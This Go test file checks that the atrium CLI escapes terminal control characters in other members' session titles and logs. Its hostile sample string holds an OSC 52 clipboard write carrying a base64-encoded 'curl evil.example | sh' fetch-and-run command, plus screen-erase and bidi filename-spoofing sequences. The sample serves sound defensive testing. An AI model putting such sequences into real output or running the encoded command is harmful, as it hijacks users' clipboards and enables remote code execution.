package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/atriumhq/atrium/gateway/client/clienttest"
)

// evilTitle is what issue 20's ninth finding used: an OSC 52 clipboard
// write, a carriage return and a line erase, a bidi override, a C1 CSI.
const evilTitle = "deploy\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 ok\r\x1b[2Kinnocent \u202egnp.exe\u0085\u009b31m"

// controls reports the terminal control characters of s other than
// newline and tab.
func controls(s string) []rune {
	var out []rune
	for _, r := range s {
		if r != '\n' && r != '\t' && unsafeRune(r) {
			out = append(out, r)
		}
	}
	return out
}

func TestSafeText(t *testing.T) {
	for in, want := range map[string]string{
		"plain text\n\tindented": "plain text\n\tindented",
		"a\r\nb":                 "a\nb",
		"a\rb":                   `a\u000db`,
		"\x1b]52;c;eA==\x07":     `\u001b]52;c;eA==\u0007`,
		"x\u202ey":               `x\u202ey`,
		"bad \xff byte":          `bad \xff byte`,
		"naïve ✓ 日本":             "naïve ✓ 日本",
		"\u009b31m":              `\u009b31m`,
	} {
		if got := safeText(in); got != want {
			t.Errorf("safeText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := safeLine("two\nlines\tand tab"); got != `two\nlines\tand tab` {
		t.Errorf("safeLine = %q", got)
	}
}

func TestSafeWriter_SplitRunes(t *testing.T) {
	var buf bytes.Buffer
	w := newSafeWriter(&buf)
	in := []byte("✓ ok \x1b[2K日本\n")
	for i := range in { // one byte a write: every rune split
		if n, err := w.Write(in[i : i+1]); n != 1 || err != nil {
			t.Fatalf("write: %d %v", n, err)
		}
	}
	if got := buf.String(); got != `✓ ok \u001b[2K日本`+"\n" {
		t.Fatalf("got %q", got)
	}
}

// TestCLI_SanitizesOthersText is issue 20's ninth finding: a member's
// session title with escape sequences was printed raw by another member's
// `atrium ls` (and `logs`), so it could write their clipboard or rewrite
// their screen.
func TestCLI_SanitizesOthersText(t *testing.T) {
	srv := clienttest.New(t, clienttest.Options{})
	alice := newCLI(t, srv.URL)
	id := strings.TrimSpace(alice.ok("new", "--title", evilTitle))
	alice.ok("share", id, "bob", "--role", "viewer")
	bob := newCLI(t, srv.URL)
	bob.env["USER"] = "bob"
	for _, args := range [][]string{{"ls"}, {"logs", id}} {
		out, errs, err := bob.run(cliContext(t), nil, args...)
		if err != nil {
			t.Fatalf("atrium %v: %v\n%s", args, err, errs)
		}
		if c := controls(out + errs); len(c) > 0 {
			t.Errorf("atrium %v printed control characters %q:\n%q", args, c, out)
		}
		if args[0] == "ls" && !strings.Contains(out, `\u001b]52`) {
			t.Errorf("atrium %v does not show the escape as text:\n%s", args, out)
		}
	}
}
